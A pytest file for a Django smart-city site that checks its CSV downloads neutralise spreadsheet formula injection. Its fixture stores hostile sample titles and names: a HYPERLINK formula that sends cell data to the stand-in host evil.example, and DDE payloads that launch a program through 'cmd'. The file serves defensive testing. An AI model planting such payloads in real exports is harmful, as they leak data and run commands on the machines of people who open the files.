"""Every CSV the site serves goes through one writer (smartcity/csv.py), which turns a text cell that a
spreadsheet would run as a formula into plain text. The statistics' downloads wrote titles and names
as they were (issue #14: CSV formula injection)."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from insight.services import insight_rebuild
from pilots.models import Pilot
from smartcity.models import Department, DepartmentChallenge, SocietalChallenge
from tests.insight.conftest import local, make_area, make_report

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'


def _cells(response) -> list[str]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]


def _assert_no_formula(cells: list[str]) -> None:
    formulas = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert formulas == [], f"cells a spreadsheet would run: {formulas}"


@pytest.fixture
def hostile():
    """Texts that staff, partners or imported data put in titles and names."""
    department = Department.objects.create(slug="evil", name="-2+3+cmd|' /C calc'!A0")
    challenge = SocietalChallenge.objects.create(title=FORMULA, description="x", status=SocietalChallenge.Status.OPEN)
    DepartmentChallenge.objects.create(department=department, title="y", description="z").societal_challenges.add(challenge)
    Pilot.objects.create(title="@SUM(1+1)*cmd|' /C calc'!A0", description="p").societal_challenges.add(challenge)
    SocietalChallenge.objects.create(title="+1+1", description="proposed, no pilot", status=SocietalChallenge.Status.PROPOSED)
    area = make_area("noord", "=1+2", 4.30, 52.07, 4.32, 52.09)
    make_report(local(2026, 3, 2, 9), area=area)
    insight_rebuild()
    return challenge


def test_the_societal_challenges_csv_neutralises_formulas_in_titles_names_and_pilots(client, hostile):
    cells = _cells(client.get(reverse("insight:statistics-csv", args=["societal-challenges"])))
    _assert_no_formula(cells)
    assert "'" + FORMULA in cells  # kept readable: a leading apostrophe, nothing removed


def test_the_neighbourhoods_csv_neutralises_formulas_in_names(client, hostile):
    url = reverse("insight:statistics-csv", args=["neighbourhoods"]) + "?start=2026-03-01&end=2026-03-31"
    cells = _cells(client.get(url))
    _assert_no_formula(cells)
    assert "'=1+2" in cells


def test_the_pilot_opportunities_csv_neutralises_formulas(client, innovation_member, hostile):
    client.force_login(innovation_member)
    cells = _cells(client.get(reverse("insight:pilot-opportunity-csv")))
    _assert_no_formula(cells)
    assert "'+1+1" in cells


def test_numbers_stay_numbers(client, hostile):
    url = reverse("insight:statistics-csv", args=["reports-over-time"]) + "?start=2026-03-01&end=2026-03-31"
    rows = list(csv.reader(io.StringIO(client.get(url).content.decode())))
    assert rows[1][1:] == ["1", "1"]
